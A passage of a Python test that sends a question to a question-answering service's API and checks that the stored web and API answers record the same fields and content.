    with serving_asgi(standalone(Settings())) as url:
        response = httpx.post(f"{url}/api/v1/ask", json={"question": QUESTION},
                              headers={"Authorization": f"Bearer {secret}"}, timeout=120)
    assert response.status_code == 200, response.text
    page_question, page_answer, api_question, api_answer = messages(db)
    assert (page_question.channel, page_answer.channel, api_question.channel, api_answer.channel) == (
        "web", "web", "api", "api")
    same = ("content", "sources", "status", "band", "answerer", "model", "prompt_version", "index_version", "error",
            "kind", "input_tokens", "output_tokens")
    assert {f: getattr(page_answer, f) for f in same} == {f: getattr(api_answer, f) for f in same}
    assert page_answer.content and page_answer.sources and api_answer.latency_ms is not None
    set_on_page = {f for f, v in page_answer.model_dump().items() if v is not None}
    set_by_api = {f for f, v in api_answer.model_dump().items() if v is not None}
    assert set_on_page == set_by_api  # no field filled by one channel and left empty by the other
    assert response.json()["answer"] == api_answer.content
